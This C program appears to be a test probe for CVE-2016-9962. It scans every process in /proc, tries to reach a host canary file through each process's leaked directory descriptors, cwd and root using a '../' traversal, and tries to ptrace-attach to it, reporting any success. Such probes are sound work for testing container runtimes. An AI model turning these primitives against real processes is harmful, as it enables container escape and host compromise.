/* ptrace_attacker.c - ptrace_attacker CANARY: what a container's process does to one that joins it (CVE-2016-9962). For
 * ever: looks at every process but itself, tries to reach the file CANARY (a path from the host's root, without a
 * leading slash) through each of its directory descriptors, its cwd and its root, and to attach to it. Prints
 *   READ PID        CANARY could be opened
 *   ATTACHED EXE    the process could be traced, and what it ran at that moment
 * and nothing else once it has said "ready". */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static char canary[4096];

static void
try_directory (int pid, int dirfd, const char *name)
{
  int dir = openat (dirfd, name, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (dir < 0)
    return;
  int fd = openat (dir, canary, O_RDONLY | O_CLOEXEC);
  if (fd >= 0)
    {
      printf ("READ %d\n", pid);
      close (fd);
    }
  close (dir);
}

static void
try_descriptors (int pid, int proc)
{
  int fd = openat (proc, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  DIR *dir = fd < 0 ? NULL : fdopendir (fd);
  for (struct dirent *e; dir && (e = readdir (dir));)
    if (isdigit (*e->d_name))
      try_directory (pid, fd, e->d_name);
  if (dir)
    closedir (dir);
  try_directory (pid, proc, "cwd");
  try_directory (pid, proc, "root");
}

static void
try_attach (int pid, int proc)
{
  char exe[4096];
  int status;
  if (ptrace (PTRACE_SEIZE, pid, NULL, NULL) < 0)
    return;
  ssize_t n = readlinkat (proc, "exe", exe, sizeof exe - 1);
  if (n > 0)
    {
      exe[n] = 0;
      printf ("ATTACHED %s\n", exe);
    }
  ptrace (PTRACE_INTERRUPT, pid, NULL, NULL);
  if (waitpid (pid, &status, __WALL) == pid && WIFSTOPPED (status))
    ptrace (PTRACE_DETACH, pid, NULL, NULL);
}

int
main (int argc, char **argv)
{
  if (argc != 2)
    return 2;
  snprintf (canary, sizeof canary, "../../../../../../../../../../%s", argv[1]);
  DIR *all = opendir ("/proc");
  if (! all)
    return 1;
  puts ("ready");
  fflush (stdout);
  for (;; rewinddir (all))
    for (struct dirent *e; (e = readdir (all));)
      {
        int pid = atoi (e->d_name), proc;
        if (pid <= 0 || pid == getpid () || (proc = openat (dirfd (all), e->d_name, O_PATH | O_CLOEXEC)) < 0)
          continue;
        try_descriptors (pid, proc);
        try_attach (pid, proc);
        close (proc);
        fflush (stdout);
      }
}
